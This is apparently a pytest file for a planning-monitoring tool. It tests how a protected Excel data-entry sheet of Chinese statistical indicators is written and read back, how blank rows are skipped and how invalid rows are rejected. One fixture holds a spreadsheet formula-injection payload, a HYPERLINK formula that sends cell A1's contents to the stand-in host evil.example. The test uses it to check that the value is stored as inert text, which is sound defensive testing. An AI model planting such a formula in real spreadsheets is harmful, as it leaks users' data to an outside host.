"""The pre-filled round sheet: written inert and frozen, read back through the hardened reader into
figures with their row numbers; blank rows skipped, a wrong year or 确认 refused by row."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from planwatch.errors import DataImportError
from planwatch.model import ObservationKind, SubmissionState
from planwatch.observe.round_sheet import HEADERS, SheetRow, read_sheet, unchanged, value_text, write_sheet
from planwatch.observe.submissions import FigureInput
from planwatch.store.rounds import Submission

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
ROWS = [SheetRow(indicator="T2-1", no="1", name="地区生产总值", region="嘉兴市", year=2025, unit="亿元",
                 last_year="7569.5", target="9000（2025年）", value="7900", source=HOSTILE),
        SheetRow(indicator="T2-3", no="3", name="常住人口城镇化率", region="嘉兴市", year=2025, unit="%",
                 last_year="", target="75左右（2025年）")]


def written(tmp_path, rows=ROWS):
    path = tmp_path / "sheet.xlsx"
    path.write_bytes(write_sheet(rows, title="2025年度监测数据填报（统计局）"))
    return path


def test_the_sheet_is_frozen_inert_and_marks_what_to_fill_in(tmp_path):
    book = load_workbook(written(tmp_path))
    ws = book.active
    assert ws.title == "数据填报" and ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == list(HEADERS)
    assert (ws["J2"].value, ws["J2"].data_type) == (HOSTILE, "s")  # a string cell, never a live formula
    assert [ws.cell(row=2, column=c).protection.locked for c in range(1, 13)] == [True] * 8 + [False] * 4
    assert ws.protection.sheet is True
    assert book.properties.title == "2025年度监测数据填报（统计局）"


def test_rows_read_back_with_their_numbers_and_blank_rows_skipped(tmp_path):
    path = written(tmp_path)
    book = load_workbook(path)
    book.active["L2"] = "是"
    book.active["K2"] = "含新并入地区"
    book.save(path)
    (gdp,) = read_sheet(path, year=2025)
    assert gdp == FigureInput(indicator="T2-1", region="嘉兴市", value="7900", unit="亿元", source=HOSTILE,
                              note="含新并入地区", confirmed=True, row=2)


def test_a_bad_sheet_is_refused_whole_with_every_row_named(tmp_path):
    path = written(tmp_path)
    book = load_workbook(path)
    ws = book.active
    ws["E2"] = 2024
    ws["I3"] = "73.1"
    ws["L3"] = "也许"
    book.save(path)
    with pytest.raises(DataImportError, match="表格有 2 处问题，未保存任何数据") as caught:
        read_sheet(path, year=2025)
    assert [(p.row, p.field, p.value, p.message) for p in caught.value.problems] == [
        (2, "year", "2024", "应为 2025（本轮填报的年份）"), (3, "确认", "也许", "应填“是”或留空")]


def test_a_sheet_without_the_columns_or_figures_is_refused(tmp_path):
    other = tmp_path / "other.csv"
    other.write_text("指标,数值\nT2-1,7900\n", encoding="utf-8")
    with pytest.raises(DataImportError, match="表格缺少列 指标编号、地区"):
        read_sheet(other, year=2025)
    empty = written(tmp_path, [ROWS[1]])
    with pytest.raises(DataImportError, match="表格中没有填写任何数值"):
        read_sheet(empty, year=2025)
    text = tmp_path / "sheet.txt.exe"
    text.write_bytes(b"MZ")
    with pytest.raises(DataImportError, match="不支持的文件类型"):
        read_sheet(text, year=2025)


def test_an_unchanged_figure_is_not_entered_again():
    now = datetime(2026, 1, 5, tzinfo=UTC)
    sub = Submission(id=1, round_id=1, indicator="T2-1", region="嘉兴市", year=2025, kind=ObservationKind.level,
                     value=7900.0, unit="亿元", source="公报", responsible_unit="统计局",
                     state=SubmissionState.approved, version=3, author="tj", created_at=now, updated_at=now,
                     updated_by="planner1")
    same = FigureInput(indicator="T2-1", region="嘉兴市", value=value_text(7900.0), unit="亿元", source="公报")
    assert value_text(7900.0) == "7900" and value_text(73.1) == "73.1"
    assert unchanged(same, sub, submit=True) and unchanged(same, sub, submit=False)
    assert not unchanged(same.model_copy(update={"value": "7901"}), sub, submit=True)
    returned = sub.model_copy(update={"state": SubmissionState.returned})
    assert not unchanged(same, returned, submit=True) and unchanged(same, returned, submit=False)
    assert not unchanged(same, None, submit=False)
